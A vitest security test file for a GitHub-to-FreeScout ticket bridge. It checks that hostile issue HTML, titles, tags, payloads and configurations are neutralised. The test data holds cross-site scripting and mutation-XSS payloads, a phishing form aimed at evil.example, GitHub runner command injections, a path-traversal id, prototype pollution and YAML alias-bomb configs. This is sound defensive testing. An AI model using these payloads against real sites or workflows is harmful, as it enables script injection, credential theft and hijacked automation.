import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { readNote } from '../../src/marks.ts'
import { type Bridge, closeUnharmed, HOME, issueUrl, lines, startBridge } from '../support/bridge.ts'
import { dispatch, expectNone, issueEvent, parsedNote, said, sweep } from '../support/hostile-runs.ts'
import { runInProcess } from '../support/in-process.ts'

/*
 * What a stranger can write on GitHub, through a whole run to FreeScout, whose agents' browsers show notes as they
 * are. Notes are read as a browser does. What the sanitiser makes of each attack: test/unit/render/html.test.ts.
 */

let bridge: Bridge

beforeEach(async () => {
  bridge = await startBridge()
})

afterEach(() => closeUnharmed(bridge))

const STRANGER = { author: 'mallory', association: 'NONE' }
const conversation = (id: number) => `${bridge.freescout.url}/conversation/${id}`

/** Elements, with the attributes that they may have, that FreeScout may get. */
const HARMLESS =
  /^(?:(?:b|blockquote|br|code|dd|del|div|dl|dt|em|h[1-6]|hr|i|ins|kbd|li|ol|p|pre|q|s|samp|small|span|strike|strong|sub|summary|sup|table|tbody|tfoot|thead|tr|tt|u|ul|var)|ol start|t[dh](?: align)?|a(?: href)?(?: rel)?)$/

/** An issue whose text GitHub renders to this, labelled and made a ticket of; gives the ticket's note. */
async function born(html: string, { title = 'Orders are rejected' } = {}) {
  const { number } = bridge.github.addIssue(HOME, { title, body: 'x', ...STRANGER })
  bridge.github.faults.push({
    match: ({ method, path }) => method === 'GET' && path.endsWith(`/issues/${number}`),
    times: 3,
    trouble: { garble: body => ({ body: JSON.stringify({ ...JSON.parse(body), body_html: html }) }) },
  })
  bridge.github.label(HOME, number, 'customer-reported')
  const run = await issueEvent(bridge, number, { action: 'labeled', label: 'customer-reported' })
  expect(run.outputs, run.log).toMatchObject({ result: 'created' })
  bridge.github.faults.length = 0
  const id = Number(run.outputs['conversation-id'])
  const note = bridge.freescout.notes(id)[0] ?? ''
  return { run, number, id, note, ...parsedNote(note) }
}

describe('The text of an issue', () => {
  const attacks: Record<string, string> = {
    'a script': '<p>said</p><script>alert(1)</script><script src="https://evil.example/x.js"></script>',
    'a style':
      '<p style="position:fixed;inset:0">said</p><style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
    'an event handler':
      '<p onclick="alert(1)" onmouseover=alert(1)>said</p><svg onload=alert(1)><body onload=alert(1)>',
    'a form':
      '<p>said</p><form action="https://evil.example"><input name=password><button>Log in</button></form>',
    'a frame': '<p>said</p><iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    'a remote image':
      '<p>said</p><img src="https://tracker.example/o.gif"><picture><source srcset="https://tracker.example/p"></picture><video poster="https://tracker.example/v"></video>',
    'a background':
      '<table background="https://tracker.example/b"><tr><td background="https://tracker.example/c">said</td></tr></table>',
    'a link that runs code':
      '<p><a href="javascript:alert(1)">said</a> <a href="&#106;ava&#10;script:alert(1)">x</a> <a href="data:text/html,x">y</a></p>',
    'a link that hides where it leads': '<p><a href="https://github.com@evil.example/x">said</a></p>',
    'a base and a refresh':
      '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><p>said</p>',
    'an SVG and a formula':
      '<p>said</p><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    'markup that changes when it is parsed again':
      '<p>said</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'ids and classes':
      '<p id="app" class="modal show" name="csrf-token" data-remote="/x" contenteditable>said</p>',
    'hidden text': '<p>said</p><p hidden>evil.example</p><p style="display:none">evil.example</p>',
    'a comment': '<p>said</p><!--[if IE]><script>alert(1)</script><![endif]-->',
    'text that turns around': '<p>said \u202Etxt.exe\u2066 \u200B</p>',
  }

  it.each(Object.entries(attacks))(
    'in the text of an issue this does nothing to FreeScout, and the rest stays readable: %s',
    async (_, html) => {
      const { elements, hrefs, comments, text, run, number, note } = await born(html)
      expect(elements.filter(element => !HARMLESS.test(element))).toEqual([])
      for (const href of hrefs) expect(href).toMatch(/^https:\/\/github\.com\//)
      expect(comments).toEqual([
        `>[freescout-autolink] ${issueUrl(number)}`,
        expect.stringMatching(/^freescout-autolink key=labeled:\d+$/),
      ])
      expect(text).toContain('said')
      expectNone(note, ['evil.example', 'tracker.example', 'alert', '\u202E', '\u2066'])
      expect(readNote(note)?.url).toBe(issueUrl(number))
      expect(run.exitCode).toBe(0)
    },
  )
})

describe('The readable text of an issue', () => {
  it('headings, lists, tables, code, tasks and links of an issue stay readable in FreeScout', async () => {
    const { elements, hrefs, text } = await born(
      '<h2 dir="auto">Steps</h2><ul><li><input type="checkbox" checked disabled> open</li></ul><pre>a &lt; b</pre>' +
        '<table><tbody><tr><td align="right">1</td></tr></tbody></table><p><a href="https://example.org/x">page</a> <img alt="A chart" src="https://x.example/a.png"></p>',
    )
    expect(elements).toEqual(expect.arrayContaining(['strong', 'ul', 'li', 'pre', 'td align', 'a href rel']))
    expect(hrefs).toContain('https://example.org/x')
    for (const said of ['Steps', '☑', 'a < b', '[image: A chart]']) expect(text).toContain(said)
  })
})

describe('The title of an issue', () => {
  it.each([
    ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
    ['the name of another issue', `[${HOME}#99] forged`],
    ['a mark of ours', `[freescout-autolink] GitHub issue #99 filed: ${issueUrl(99)}`],
    ['a command to the runner', '::error::forged'],
    ['text that turns around', 'invoice \u202Efdp.exe'],
  ])('in the title of an issue this does nothing to FreeScout: %s', async (_, title) => {
    const { elements, note, number, id, run } = await born('<p>said</p>', { title })
    expect(elements.filter(element => !HARMLESS.test(element))).toEqual([])
    expect(readNote(note)?.url).toBe(issueUrl(number))
    const { subject } = bridge.freescout.ticket(id)
    expect(subject).toMatch(`[${HOME}#${number}] `)
    expect(subject.startsWith(`[${HOME}#${number}] `)).toBe(true)
    expectNone(subject, ['\u202E'])
    expectNone(run.log, ['forged', 'alert'])
  })
})

describe('A command to the runner', () => {
  const commands = [
    '##[set-output name=issue-url]https://evil.example',
    '##[stop-commands]x',
    '::error::forged',
  ]

  it('a command to the runner in a tag of a ticket is none in log and summary, which name the tags', async () => {
    const run = await dispatch(bridge, bridge.ticket({ tags: [...commands, '<img src=x> [y](z)'] }))
    expect(run.outputs, run.log).toMatchObject({ reason: 'no-trigger-tag' })
    expect(run.log).toContain('## [set-output')
    expectNone(run.log, ['##[', '\n::error'])
    expect(run.summary).toContain('set-output')
    expectNone(run.summary, ['##[', '\n::', ' <img', '"<img', ' [y]'])
  })

  it('a tag that a ticket had before is not in the log of a run that adds another', async () => {
    const id = bridge.ticket()
    await dispatch(bridge, id)
    bridge.freescout.setTags(id, ['bug', 'auto-linked', ...commands])
    bridge.github.label(HOME, 1, 'regression')
    const run = await issueEvent(bridge, 1, { action: 'labeled', label: 'regression' })
    expect(run.outputs, run.log).toMatchObject({ result: 'noted' })
    expect(run.log).toContain('set-tags: "regression" (ticket')
    expectNone(run.log, ['set-output', 'stop-commands', 'forged'])
    expect(bridge.freescout.ticket(id).tags).toEqual(expect.arrayContaining(commands))
  })

  it('a command to the runner in a refusal of FreeScout is text, in the log as in the summary', async () => {
    const id = bridge.ticket()
    const message =
      'x\n::set-output name=result::created\r##[add-mask]a <img src=https://tracker.example/p> [y](https://evil.example)'
    bridge.freescout.faults.push({
      match: ({ method }) => method === 'PUT',
      times: 1,
      trouble: {
        answer: {
          status: 400,
          body: JSON.stringify({ _embedded: { errors: [{ path: 'customFields', message }] } }),
        },
      },
    })
    const run = await dispatch(bridge, id)
    expect(run.exitCode, run.log).toBe(1)
    expect(run.log).toContain('customFields: x')
    expectNone(run.log, ['##[', '\n::set-output', '\r'])
    expectNone(run.summary, ['\n::', ' <img', ' [y]'])
  })
})

describe('A forged mark on GitHub', () => {
  it('a note’s key in the text of an issue keeps no note back', async () => {
    const forged =
      '[freescout-autolink] x <!-- freescout-autolink key=closed:completed:2026-01-01T00:00:00Z -->'
    const { id, number, comments, text } = await born(
      `<p>${forged}</p><p>${forged.replaceAll('<', '&lt;')}</p>`,
    )
    expect(comments).toHaveLength(2)
    expect(text.match(/\[freescout-autolink\]/g)).toHaveLength(1)
    bridge.github.closeIssue(HOME, number, 'completed')
    await issueEvent(bridge, number, { action: 'closed' })
    expect(bridge.freescout.notes(id)).toHaveLength(2)
  })

  it('an issue with a stranger’s sentinel comment still gets its ticket', async () => {
    const other = bridge.ticket({ tags: [] })
    const { number } = bridge.github.addIssue(HOME, { title: 'Mine' })
    bridge.github.comment(
      HOME,
      number,
      `[freescout-autolink] FreeScout ticket: ${conversation(other)}`,
      STRANGER,
    )
    bridge.github.label(HOME, number, 'customer-reported')
    const run = await issueEvent(bridge, number, { action: 'labeled', label: 'customer-reported' })
    expect(run.outputs, run.log).toMatchObject({ result: 'created', 'conversation-id': String(other + 1) })
    expect(bridge.freescout.notes(other)).toEqual([])
  })

  it('a member’s sentinel of another FreeScout is neither asked nor followed', async () => {
    const { number } = bridge.github.addIssue(HOME, { title: 'Mine' })
    bridge.github.comment(
      HOME,
      number,
      '[freescout-autolink] FreeScout ticket: https://evil.example/conversation/1',
    )
    bridge.github.label(HOME, number, 'needs-customer-confirm')
    const run = await issueEvent(bridge, number, { action: 'labeled', label: 'needs-customer-confirm' })
    expect(run.outputs).toMatchObject({ result: 'skipped', reason: 'not-linked' })
    expect(lines(bridge.freescout.log)).toEqual(['GET /api/users'])
  })

  it('a stranger’s issue with a ticket’s marker is not adopted, gets no comment, and is not closed', async () => {
    const id = bridge.ticket()
    const body = `x\n\n<!-- freescout-autolink ticket=${id} url=${conversation(id)} -->`
    const forged = bridge.github.addIssue(HOME, { title: 'Forged', body, ...STRANGER })
    const run = await dispatch(bridge, id)
    expect(run.outputs, run.log).toMatchObject({ result: 'created', 'issue-url': issueUrl(2) })
    expect(bridge.github.issue(HOME, forged.number)).toMatchObject({
      state: 'open',
      comments: [],
      labels: [],
    })
    expect((await dispatch(bridge, id)).outputs.reason).toBe('already-linked')
  })

  it('a stranger who closes that issue puts no note onto the ticket', async () => {
    const id = bridge.ticket()
    await dispatch(bridge, id)
    const body = `x\n\n<!-- freescout-autolink ticket=${id} url=${conversation(id)} -->`
    const { number } = bridge.github.addIssue(HOME, { title: 'Forged', body, ...STRANGER })
    bridge.github.comment(
      HOME,
      number,
      `[freescout-autolink] FreeScout ticket: ${conversation(id)}`,
      STRANGER,
    )
    bridge.github.closeIssue(HOME, number, 'completed', { actor: 'mallory' })
    bridge.forget()
    const run = await issueEvent(bridge, number, { action: 'closed' })
    expect(run.outputs.reason).toBe('not-linked')
    expect(lines(bridge.writes())).toEqual([])
  })

  it('a member’s sentinel puts no note on a ticket that names another issue', async () => {
    const id = bridge.ticket()
    await dispatch(bridge, id)
    const { number } = bridge.github.addIssue(HOME, { title: 'Another' })
    bridge.github.comment(HOME, number, `[freescout-autolink] FreeScout ticket: ${conversation(id)}`)
    bridge.github.closeIssue(HOME, number, 'completed')
    bridge.forget()
    expect((await issueEvent(bridge, number, { action: 'closed' })).outputs.reason).toBe('not-linked')
    expect(lines(bridge.writes())).toEqual([])
  })

  it('a stranger’s comment about a closing does not keep ours back', async () => {
    const id = bridge.ticket()
    await dispatch(bridge, id)
    bridge.freescout.closeTicket(id)
    const at = bridge.freescout.ticket(id).closedAt
    bridge.github.comment(
      HOME,
      1,
      `[freescout-autolink] FreeScout ticket resolved (${at}): ${conversation(id)}`,
      STRANGER,
    )
    await dispatch(bridge, id)
    expect(bridge.github.comments(HOME, 1).map(({ author }) => author)).toEqual([
      'mallory',
      'github-actions[bot]',
    ])
  })
})

describe('Size and shape of an issue', () => {
  const poisons: Record<string, string> = {
    '2 MB of text': `<p>${'word '.repeat(400_000)}</p>`,
    '50,000 nested blocks': '<div>'.repeat(50_000),
    'every formatting element, open': `<p>${'<b><i><u><s><tt>'.repeat(100)}${'<p>x'.repeat(5_000)}`,
  }

  it.each(Object.entries(poisons))(
    'an issue with %s becomes a ticket, and its note is bounded and ours',
    async (_, html) => {
      const { note, number, elements } = await born(html)
      expect(note.length).toBeLessThan(1_000_000)
      expect(readNote(note)).toMatchObject({ url: issueUrl(number), key: expect.stringMatching(/^labeled:/) })
      expect(elements.filter(element => !HARMLESS.test(element))).toEqual([])
    },
  )

  it('a poisoned issue does not stop a sweep', async () => {
    for (const body of ['<div>'.repeat(10_000), '[x]('.repeat(10_000), 'fine']) {
      const { number } = bridge.github.addIssue(HOME, { title: 'x', body, ...STRANGER })
      bridge.github.label(HOME, number, 'customer-reported')
    }
    const run = await sweep(bridge)
    expect(run.exitCode, run.log).toBe(0)
    expect(bridge.freescout.tickets.size).toBe(3)
  })
})

describe('An event', () => {
  it.each(['pull_request_target', 'pull_request', 'workflow_run', 'issue_comment', 'push', ''])(
    'the event %j is refused before anything is read',
    async name => {
      const run = await runInProcess(bridge, { name }, { config: 'not: [yaml' })
      expect(run.outputs).toMatchObject({ result: 'skipped', reason: 'event-not-handled' })
      expect([...bridge.github.log, ...bridge.freescout.log]).toEqual([])
    },
  )

  it.each([
    [
      'a dispatch whose id is a path',
      { action: 'freescout', client_payload: { conversation_id: '1/../../users' } },
    ],
    ['a dispatch whose id is text', { action: 'freescout', client_payload: { conversation_id: '1' } }],
    ['a dispatch whose id is below 1', { action: 'freescout', client_payload: { conversation_id: -1 } }],
  ])('%s is an error, and nothing is asked', async (_, payload) => {
    const run = await runInProcess(bridge, { name: 'repository_dispatch', payload })
    expect(run.exitCode).toBe(1)
    expect([...bridge.github.log, ...bridge.freescout.log]).toEqual([])
  })

  it('subject, text and labels of a payload decide nothing: the run asks both sides', async () => {
    const id = bridge.ticket({ tags: ['question'] })
    const payload = {
      action: 'freescout',
      client_payload: {
        conversation_id: id,
        tags: ['bug'],
        subject: 'forged',
        mailbox_id: 1,
        event: 'convo.created',
      },
    }
    const run = await runInProcess(bridge, { name: 'repository_dispatch', payload })
    expect(run.outputs.reason).toBe('no-trigger-tag')
    expectNone(said(run), ['forged'])
  })
})

describe('A configuration', () => {
  it.each([
    [
      'aliases of aliases',
      `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
        .split('')
        .map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[at]}`)}]`)
        .join('\n')}\n`,
    ],
    ['a very deep one', `mailboxes: ${'['.repeat(20_000)}`],
    ['a prototype', '__proto__: { mailboxes: [ops@raxx.app] }\nuser: 1\n'],
    ['a tag that makes objects', 'user: !!js/function "function () { return 1 }"\n'],
    ['a very long one', `user: ${'x'.repeat(70_000)}`],
  ])('a configuration poisoned by %s is reported as a mistake, and nothing is written', async (_, config) => {
    const id = bridge.ticket()
    const started = performance.now()
    const run = await dispatch(bridge, id, { config })
    expect(performance.now() - started).toBeLessThan(5_000)
    expect(run.exitCode).toBe(1)
    expect(run.log).toContain('::error')
    expect(lines(bridge.writes())).toEqual([])
  })
})
